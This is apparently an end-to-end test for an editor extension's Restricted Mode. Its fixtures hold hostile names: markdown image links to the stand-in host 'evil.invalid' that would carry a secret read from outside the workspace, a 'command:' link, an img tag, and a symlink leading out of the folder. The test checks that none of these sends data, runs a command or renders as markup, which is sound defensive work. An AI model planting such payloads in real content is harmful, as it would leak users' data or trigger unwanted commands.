import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { until, withEditor } from "../harness/editor.ts";

const SECRET = "kept-to-itself";
const EVIL = "evil.invalid";
const NEW_FILE = "workbench.action.files.newUntitledFile";

/** The name of an experiment: a link, images, an icon, an element. */
const NAME = `[Show details](command:${NEW_FILE}) ![x](https://${EVIL}/i) $(alert) <img src='https://${EVIL}/e'>`;

const FILES = {
  "hover.node-ode.ts": `import s from "../other/x.json" with { type: "json" };
const k = "q\` ![x](https://${EVIL}/?" + s[0].secret + ") \`q";
export const leak = ([x, v] = [1, 0], t: number, { [k]: a = 1, b = 2 } = {}) => [v, -a * b * x];
`,
  "open.node-ode.ts": `import { theirs } from "../other/theirs.node-ode.ts";
const name = "q\` ![x](https://${EVIL}/?" + theirs + ") \`q";
export const open = ([x, v] = [1, 0], t: number, { [name]: a = 1 } = {}) => [v, -a * x];
`,
  "train.node-ode.ts": `import { experiment, meanAbsoluteError } from "node-ode";
function decay([x] = [1], t: number, { k = 1 } = {}) { return [-k * x]; }
const fit = experiment(decay, { t: [0, 1], data: { t: [0, 0.5, 1], z: [[1], [0.5], [0.2]] }, loss: meanAbsoluteError(), train: { iterations: 50000000 } });
export { fit as ${JSON.stringify(NAME)}, decay };
`,
  "link.node-ode.ts": `import { csv, experiment } from "node-ode";
export const f = ([x] = [1], t: number, { k = 1 } = {}) => [-k * x];
export const fitLink = experiment(f, { t: [0, 1], data: csv("link.csv") });
`,
};

test("Restricted Mode: hostile names send nothing away, run nothing and are no markup", async () => {
  const options = { files: FILES, trusted: false, provokes: /TSServer exited/ };
  await withEditor("hostile", options, async (editor) => {
    const { page } = editor;
    const requests: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes(EVIL)) requests.push(request.url());
    });
    const other = path.join(editor.workspace, "..", "other");
    mkdirSync(other);
    writeFileSync(path.join(other, "x.json"), JSON.stringify([{ secret: SECRET }]));
    writeFileSync(path.join(other, "theirs.node-ode.ts"), `export const theirs = "${SECRET}";\n`);
    writeFileSync(path.join(other, "data.csv"), `t,${SECRET}\n0,1\n`);
    symlinkSync(path.join(other, "data.csv"), path.join(editor.workspace, "link.csv"));
    const markers = page.locator(".markers-panel .monaco-list-row");
    const problem = (words: string) => markers.filter({ hasText: words }).first().waitFor();

    // 1. A hover on a function whose parameter is named by a file from elsewhere: an image's address would carry it away.
    await editor.open("hover.node-ode.ts");
    await editor.lens("Phase portrait").waitFor();
    await editor.run("Problems: Focus on Problems View");
    await problem("../other/x.json is outside");
    const hover = page.locator(".monaco-hover:visible", { hasText: "Dynamics function" });
    await until("our hover", async () => {
      await page.mouse.move(5, 5);
      await page
        .locator(".view-line span", { hasText: /^leak$/ })
        .first()
        .hover();
      await hover.first().waitFor({ timeout: 5000 });
      return true;
    });
    assert.equal(await hover.locator("img").count(), 0);
    await editor.screenshot("editor-hostile-hover");

    // 2. The same of a file that is open in the editor, and of a link out of the folder.
    await editor.open("../other/theirs.node-ode.ts");
    await editor.open("open.node-ode.ts");
    await problem("../other/theirs.node-ode.ts is outside");
    await editor.open("link.node-ode.ts");
    await problem("link.csv is a link that leads out of");
    assert.ok(!(await markers.allInnerTexts()).join("\n").includes(SECRET));

    // 3. An experiment whose name is a link to a command: on its panel, its tab and in notifications.
    await editor.open("train.node-ode.ts");
    await editor.clickLens("Train Neural ODE", async () => (await editor.findWebview(".fact")) !== undefined);
    const panel = await editor.webview(".fact");
    const title = (await panel.locator("h1").first().textContent()) ?? "";
    // Long names may break between their words.
    assert.ok(title.replaceAll("\u200b", "").includes(NAME), title);
    assert.equal(await panel.locator("img, a").count(), 0);
    await editor.screenshot("editor-hostile-panel");
    // A training whose panel is behind another is told of.
    await editor.clickLens(
      "Phase portrait",
      async () => (await editor.findWebview('[data-figure="plane"]')) !== undefined,
    );
    await editor.run("Notifications: Show Notifications");
    const toast = page.locator(".notification-list-item", { hasText: "Show details" });
    await toast.first().waitFor();
    await editor.screenshot("editor-hostile-notification");
    const assertWords = async () => {
      assert.equal(await toast.locator(".notification-list-item-message a").count(), 0, "a live link");
      await toast.locator(".notification-list-item-message").first().click();
    };
    await assertWords();
    await toast.first().hover();
    await toast.getByText("Cancel", { exact: true }).first().click();
    await editor.run("Notifications: Show Notifications");
    await toast.getByText("Show", { exact: true }).first().waitFor();
    await assertWords();
    assert.equal(await page.locator(".tab", { hasText: /Untitled-\d/ }).count(), 0, "a command ran");

    // 4. The tree has its words, and no icon from them.
    await page.locator(".activitybar .action-item a[aria-label='Neural ODE Lab']").click();
    const row = page.locator(".tree-explorer-viewlet-tree-view .monaco-list-row", { hasText: "train.node-ode.ts" });
    await row.first().click();
    await page.keyboard.press("ArrowRight");
    const named = page.locator(".tree-explorer-viewlet-tree-view .monaco-list-row", { hasText: "Show details" });
    await named.first().waitFor();
    assert.equal(await named.locator(".codicon-alert, img").count(), 0);
    assert.deepEqual(requests, []);
  });
});
